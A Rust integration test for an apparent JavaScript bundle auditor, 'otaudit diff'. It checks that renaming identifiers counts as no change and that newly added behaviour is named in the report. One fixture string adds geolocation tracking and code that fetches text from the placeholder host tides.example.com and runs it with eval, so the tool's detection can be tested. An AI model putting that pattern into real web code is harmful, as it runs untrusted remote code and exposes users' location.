//! `otaudit diff` on small bundles: what is no change, and what matters by name.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)] // a test fails by panicking

use std::path::Path;
use std::process::Command;

fn bundle(files: &[(&str, &[u8])]) -> tempfile::TempDir {
    let folder = tempfile::tempdir().unwrap();
    std::fs::write(folder.path().join("index.html"), "<!doctype html><title>x</title><script src=a.js></script>")
        .unwrap();
    for (name, bytes) in files {
        std::fs::write(folder.path().join(name), bytes).unwrap();
    }
    folder
}

#[test]
fn a_change_of_names_alone_is_no_change_and_what_was_added_is_named() {
    let source = |name: &str, more: &str| {
        let code = format!(
            "const {name}=t=>t.map(e=>e.title+': '+e.text);{more}document.title={name}([{{title:'a',text:'b'}}]);"
        );
        bundle(&[("a.js", code.as_bytes())])
    };
    let compared = |before: &Path, after: &Path| -> serde_json::Value {
        let output = Command::new(env!("CARGO_BIN_EXE_otaudit"))
            .arg("diff")
            .args([before, after])
            .args(["--format", "json"])
            .output()
            .unwrap();
        let report: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
        report["comparison"].clone()
    };
    let (one, renamed) = (source("x", ""), source("yy", ""));
    let same = compared(one.path(), renamed.path());
    assert_eq!((&same["code"]["added_bytes"], &same["code"]["removed_bytes"]), (&0.into(), &0.into()));
    let more = "navigator.geolocation.watchPosition(p=>p);fetch('https://tides.example.com/rules').then(r=>r.text()).then(t=>eval(t));";
    let grown = source("x", more);
    let change = compared(one.path(), grown.path());
    let names: Vec<&str> = change["sets"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|set| set["added"].as_array().unwrap())
        .map(|item| item["name"].as_str().unwrap())
        .collect();
    for wanted in ["watchPosition", "tides.example.com", "`eval` of what came by fetch"] {
        assert!(names.iter().any(|name| name.contains(wanted)), "{wanted} in {names:?}");
    }
}
